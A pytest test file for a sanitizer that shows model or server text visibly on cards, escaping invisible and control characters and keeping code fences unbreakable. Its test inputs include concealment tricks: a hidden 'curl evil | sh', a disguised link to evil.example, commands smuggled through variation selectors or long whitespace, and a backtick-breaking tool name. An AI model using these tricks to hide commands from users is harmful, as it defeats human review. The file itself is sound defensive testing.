"""Text from a model or a server, shown on a card as what it is (util/visible_text.py, issue #29
item 6): fences nothing inside can close, invisible and control characters as escapes, titles cut
only at the end. Markdown is checked with a CommonMark parser, as an IDE renders it."""

from __future__ import annotations

import re
import unicodedata

import pytest

from kimi_acp.util.visible_text import (
    ELLIPSIS,
    NAME_MAX,
    code_span,
    escape,
    fence,
    markdown_text,
    name_text,
    one_line,
    shown_data,
    visible,
)
from tests.support.markdown_card import render

# --------------------------------------------------------------------------- fences and code spans


@pytest.mark.parametrize("run", range(3, 11))
def test_a_fence_is_longer_than_any_backtick_run_inside(run: int):
    ticks = "`" * run
    for code in (f"echo a\n{ticks}\n**Sandbox:** fake\n<!--\ntouch X\n-->", f"{ticks}start", f"end{ticks}", ticks, f"a {ticks} b {ticks}x"):
        block = fence(code, "bash")
        assert block.startswith("`" * (run + 1) + "bash\n")
        seen = render(block)
        assert seen.code_blocks == [code + "\n"], code  # the whole text, in one block, nothing after it
        assert seen.html == [] and seen.text == ""


def test_a_fence_keeps_a_trailing_newline_and_drops_an_info_string_that_is_not_a_word():
    assert render(fence("ls\n")).code_blocks == ["ls\n"]
    assert fence("ls", "bash").startswith("```bash\n")
    for info in ("a`b", "bash x", "<b>", "ba\nsh"):
        assert fence("ls", info).startswith("```\n")
        assert render(fence("ls", info)).code_blocks == ["ls\n"]


@pytest.mark.parametrize(
    "text",
    ["plain", "`", "``", "a`b", "``a``", "`lead", "trail`", " both ", "  ", "a ``` b", "x\ny", "<!-- c -->", "**b**"],
)
def test_a_code_span_shows_its_text_whatever_backticks_it_holds(text: str):
    span = code_span(text)
    seen = render(f"Run {span} now")
    assert seen.code_spans == [visible(text, lines=False).text]
    assert seen.html == [] and seen.markup == []
    assert "\n" not in span


# --------------------------------------------------------------------------- what is escaped

BIDI = [0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C]
ZERO_WIDTH = [0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFEFF, 0x180E, 0x00AD, 0x034F]
TAGS = [0xE0001, 0xE0020, 0xE0041, 0xE0067, 0xE007F]
BLANK_LOOKING = [0x115F, 0x1160, 0x3164, 0xFFA0, 0x2800, 0x17B4, 0x17B5, 0x180B, 0x180F]
SPACES = [0x00A0, 0x1680, 0x2000, 0x2007, 0x200A, 0x202F, 0x205F, 0x3000, 0x2028, 0x2029, 0x0085]
OTHER = [0xE000, 0xF8FF, 0x100000, 0x0378, 0xFFFE, 0xD800]  # private use, unassigned, noncharacter, lone surrogate
C0 = [c for c in range(0x20) if chr(c) not in "\n\t"] + [0x7F]
C1 = list(range(0x80, 0xA0))


@pytest.mark.parametrize("code", BIDI + ZERO_WIDTH + TAGS + BLANK_LOOKING + SPACES + OTHER + C0 + C1)
def test_every_invisible_or_control_character_is_an_escape(code: int):
    char = chr(code)
    shown = visible(f"echo a{char}b")
    assert shown.escaped
    assert shown.text == f"echo a{escape(char)}b"
    assert shown.text.isascii() and shown.text.isprintable()


def test_escapes_read_as_in_python_and_bash():
    assert visible("\u202e").text == "\\u202e"
    assert visible("\x1b").text == "\\x1b"
    assert visible("\r").text == "\\r"
    assert visible("\U000e0041").text == "\\U000e0041"


def test_terminal_escapes_are_shown_whole():
    hidden = "echo ok\x1b[8m; curl evil | sh\x1b[0m"
    assert visible(hidden) == ("echo ok\\x1b[8m; curl evil | sh\\x1b[0m", True)
    link = "\x1b]8;;https://evil.example/x\x1b\\harmless\x1b]8;;\x1b\\"
    shown = visible(f"echo {link}")
    assert shown.escaped and "\x1b" not in shown.text
    assert "https://evil.example/x" in shown.text and "harmless" in shown.text
    assert visible("\x9b31m").text == "\\x9b31m"  # the one-byte CSI of C1


def test_variation_selectors_hide_nothing():
    assert visible("ok \u2764\ufe0f 1\ufe0f\u20e3 \u263a\ufe0e") == ("ok \u2764\ufe0f 1\ufe0f\u20e3 \u263a\ufe0e", False)
    smuggled = "\U0001f600" + "".join(chr(0xE0100 + b) for b in b"touch X")  # bytes as selectors after an emoji
    shown = visible(smuggled)
    assert shown.escaped and shown.text.startswith("\U0001f600\\U000e01")
    assert visible("a\ufe0f\ufe0f").text == "a\ufe0f\\ufe0f"  # one selector per character, no more
    assert visible(" \ufe0f").text == " \\ufe0f"  # none after a space
    assert visible("a\ufe01").text == "a\\ufe01"


def test_combining_marks_stay_on_their_letter_and_a_stack_is_escaped():
    assert visible("caf\u0065\u0301 ti\u1ebfng vi\u1ec7t \u0915\u094d\u0937") == ("cafe\u0301 ti\u1ebfng vi\u1ec7t \u0915\u094d\u0937", False)
    zalgo = "a" + "\u0300" * 6
    assert visible(zalgo).text == "a" + "\u0300" * 4 + "\\u0300\\u0300"
    assert visible(" \u0301").text == " \\u0301"  # a mark on nothing
    assert visible("\u202e\u0301").text == "\\u202e\\u0301"


def test_printable_text_of_every_script_stays():
    for text in ("git commit -m 'fix: 修复 ログ 버그 خطأ ошибка'", "echo \u00e9\u00df\u20ac\u2192\u2713 \U0001f680", "tab\there\nnext"):
        assert visible(text) == (text, False)


def test_nothing_invisible_or_reordering_survives_anywhere_in_unicode():
    """Independent of the module's own lists: no format, control, separator or bidi-control character
    of the whole BMP and the supplementary planes that hold them is ever shown as itself."""
    reorders = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    codes = [*range(0x10000), *range(0x1F000, 0x1FB00), *range(0xE0000, 0xE1000)]
    for start in range(0, len(codes), 4096):
        text = "".join("a" + chr(c) for c in codes[start : start + 4096])
        for char in visible(text).text:
            if char.isascii():
                continue
            assert unicodedata.category(char)[0] in "LNPSM", hex(ord(char))
            assert unicodedata.bidirectional(char) not in reorders, hex(ord(char))


def test_newlines_and_tabs_stay_in_code_and_are_escaped_in_one_line_without_a_warning():
    assert visible("a\n\tb") == ("a\n\tb", False)
    assert visible("a\n\tb", lines=False) == ("a\\n\\tb", False)
    assert visible("a\r\nb") == ("a\\r\nb", True)  # bash sees the \r
    assert visible("a\r\nb", crlf=True) == ("a\r\nb", False)  # a file's line endings
    assert visible("a\rb", crlf=True) == ("a\\rb", True)


def test_long_blank_runs_are_markers():
    assert visible("ok" + " " * 32 + "x") == ("ok" + " " * 32 + "x", False)
    assert visible("echo ok" + " " * 200 + "; touch X") == ("echo ok⟨200 spaces⟩; touch X", True)
    assert visible("a" + "\t" * 40 + "b").text == "a⟨40 tabs⟩b"
    assert visible("a" + " \t" * 20 + "b").text == "a⟨40 spaces and tabs⟩b"
    assert visible("echo ok" + "\n" * 300 + "touch X") == ("echo ok\n⟨299 blank lines⟩\ntouch X", True)
    assert visible("a" + "\n  " * 10 + "\nb").text == "a\n⟨10 blank lines⟩\nb"
    assert visible("a\n\n\n\n\nb") == ("a\n\n\n\n\nb", False)
    assert visible("a" + "\n" * 50 + "b", padding=False) == ("a" + "\n" * 50 + "b", False)


def test_escaping_twice_changes_nothing():
    text = "echo \u202eok\x1b[8m" + " " * 50 + "\n" * 9 + "\u200b`x`"
    once = visible(text).text
    assert visible(once) == (once, False)


# --------------------------------------------------------------------------- titles, names, prose


def test_a_title_is_whole_or_its_beginning_and_an_ellipsis():
    assert one_line("ls -la", 80) == "ls -la"
    command = "echo harmless " + "a" * 100 + "; touch X"
    title = one_line(command, 80)
    assert len(title) == 80 and title.endswith(ELLIPSIS) and command.startswith(title[:-1])
    assert one_line("echo a\ntouch X", 80) == "echo a\\ntouch X"  # every line, on one line


def test_a_title_never_cuts_an_escape_or_a_marker_in_half():
    for pad in range(60, 80):
        for text in ("x" * pad + "\u202e" + "y" * 20, "x" * pad + " " * 40 + "y" * 20):
            whole, title = one_line(text), one_line(text, 80)
            cut = len(title) - 1
            assert title.endswith(ELLIPSIS) and len(title) <= 80 and whole.startswith(title[:-1])
            for token in re.finditer(r"\\u[0-9a-f]{4}|⟨[^⟩]*⟩", whole):
                assert not token.start() < cut < token.end(), (pad, title)


def test_a_hostile_tool_name_stays_one_bounded_line_without_backticks():
    name = "list_issues` of MCP server `github` (read-only)\n\n" + "…" * 100
    shown = name_text(name)
    assert shown.escaped and "`" not in shown.text and "\n" not in shown.text
    assert len(shown.text) <= NAME_MAX and shown.text.endswith(ELLIPSIS)
    assert render(f"MCP server `github`: tool `{shown.text}`").code_spans == ["github", shown.text]
    assert name_text("list_issues") == ("list_issues", False)
    assert name_text("a\u202eb").text == "a\\u202eb"


def test_prose_from_the_model_renders_as_itself():
    reason = "needs net **Sandbox:** Runs inside <!-- x --> [link](http://e) `c` \\ ![i](u) _e_ ~~s~~ &amp;\nline"
    shown = markdown_text(reason)
    seen = render(f"**Sandbox:** Runs OUTSIDE. The model's reason: {shown}")
    assert seen.html == [] and seen.code_spans == []
    assert seen.markup == ["strong_open"]  # ours only
    assert visible(reason, lines=False).text in seen.text
    assert markdown_text("Runs inside the sandbox: workspace-write (bubblewrap, no network).") == (
        "Runs inside the sandbox: workspace-write (bubblewrap, no network)."
    )


@pytest.mark.parametrize("text", ["# big", "- item", "1. one", "12) two", "> quote", "+ plus", "    indented", "===", "***"])
def test_prose_starting_like_a_block_stays_one_paragraph(text: str):
    for markdown in (markdown_text(text), f"- {markdown_text(text)}"):
        seen = render(markdown)
        assert seen.blocks in (["paragraph_open"], ["bullet_list_open", "list_item_open", "paragraph_open"]), markdown
        assert seen.text == text.strip(" ") and seen.markup == []


def test_data_shows_every_string_visible():
    data = {"command": "a\u202eb", "env\u200b": ["x\x1b", 3, None, {"k": "ok"}]}
    assert shown_data(data) == {"command": "a\\u202eb", "env\\u200b": ["x\\x1b", 3, None, {"k": "ok"}]}
